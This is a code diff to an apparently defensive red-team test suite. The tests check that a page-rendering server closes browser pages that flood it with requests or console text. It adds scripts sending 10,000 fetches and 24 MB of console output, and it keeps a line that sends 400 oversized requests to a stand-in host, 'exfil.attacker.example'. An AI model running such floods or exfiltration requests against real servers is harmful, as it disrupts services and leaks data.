@@ -20,6 +20,13 @@ const FLOODS = {
    * 400 requests outside the allowed origins, each with a 100 KB URL. (Not to port 9 any more: Chromium refuses its
    * "unsafe" ports itself, before the gateway's egress proxy, so those never reach what reports refusals.)
    */
+  /**
+   * 10 000 requests to the app's own (allowed) origin, 50 at a time (6 000 at once would fail in Chromium and log
+   * each failure to the console), each answered: no console output, only the request counter sees them.
+   */
+  requestLoop: "(async () => { for (let b = 0; b < 200; b++) await Promise.all(Array.from({ length: 50 }, (_, i) => fetch(location.origin + '/?flood=' + b + '-' + i, { cache: 'no-store' }).then((r) => r.arrayBuffer()).catch(() => undefined))); })();",
+  /** Four 6 MB console messages: 24 M characters in 4 events, far below the event limit. */
+  textFlood: "const big = 'z'.repeat(6000000); for (let i = 0; i < 4; i++) console.log(big + i);",
   blockedRequests: "for (let i = 0; i < 400; i++) { const img = new Image(); img.src = 'http://exfil.attacker.example/' + 'a'.repeat(100000) + '/' + i + '?q=' + i; }",
 } as const;
 
@@ -55,7 +62,10 @@ describe('red team: a page that floods the server with what it collects', functi
     const saved = (await client.callTool({ name: 'composer_save_composition', arguments: { composition: everyWidgetComposition('Enchente') } })) as CallToolResult;
     uid = (saved.structuredContent as { uid: string }).uid;
   });
-  afterEach(() => standin.setAppScript(undefined));
+  afterEach(() => {
+    standin.setAppScript(undefined);
+    standin.resetFaults();
+  });
   after(async () => {
     await client?.close();
     await server?.stop();
@@ -103,6 +113,29 @@ describe('red team: a page that floods the server with what it collects', functi
     expect(total!).to.be.above(summary!['loggedOneByOne'] as number).and.at.least(report.blockedNavigations.length);
     expect(server.stderr().length, 'log bytes').to.be.below(2_000_000);
     expect(canaryLeaks(server.stderr(), canaries)).to.deep.equal([]);
+    await assertServerWhole();
+  });
+
+  it('requestLoop: a page that only makes requests to its allowed origin is closed past 5 000 with BROWSER_FAILED and a fix', async () => {
+    standin.setAppScript(FLOODS.requestLoop);
+    standin.setFaults({ render: { delayMs: 25_000 } }); // the lesson renders after the flood, as a spinning page's would
+    const started = Date.now();
+    const result = await open();
+    expect(result.isError, JSON.stringify(result.content).slice(0, 300)).to.equal(true);
+    const text = JSON.stringify(result.content);
+    expect(text).to.contain('BROWSER_FAILED').and.contain('more than 5000 console messages, uncaught errors and requests').and.contain('Fix:');
+    expect(Date.now() - started, 'closed before the lesson would have rendered').to.be.below(25_000);
+    standin.resetFaults();
+    await assertServerWhole();
+  });
+
+  it('textFlood: four 6 MB console messages pass the 20 000 000-character limit and the page is closed with BROWSER_FAILED and a fix', async () => {
+    standin.setAppScript(FLOODS.textFlood);
+    const result = await open();
+    expect(result.isError, JSON.stringify(result.content).slice(0, 300)).to.equal(true);
+    const text = JSON.stringify(result.content);
+    expect(text).to.contain('BROWSER_FAILED').and.contain('more than 20000000 characters of console text and error messages').and.contain('Fix:');
+    expect(text.length, 'the error is short: none of the text comes back').to.be.below(2_000);
     await assertServerWhole();
   });
 
